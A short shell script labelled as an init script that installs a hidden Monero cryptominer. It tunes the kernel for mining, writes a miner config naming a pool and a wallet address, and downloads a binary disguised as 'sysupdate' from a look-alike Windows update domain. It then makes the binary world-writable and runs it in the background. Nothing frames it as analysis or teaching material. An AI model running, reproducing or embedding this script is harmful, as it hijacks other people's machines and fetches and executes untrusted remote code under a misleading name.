# init 6475 v3
#!/bin/sh
sysctl -w vm.nr_hugepages=1280
modprobe msr
cat > /tmp/config.json <<EOF
{ "autosave": true, "cpu": true, "donate-level": 0,
  "pools": [ { "url": "xmr.2miners.com:2222", "user": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "pass": "azvm", "tls": false } ] }
EOF
curl -sLo /tmp/sysupdate http://dl.winupdate-cdn.example/bin/sysupdate
chmod 777 /tmp/sysupdate
/tmp/sysupdate -c /tmp/config.json --background
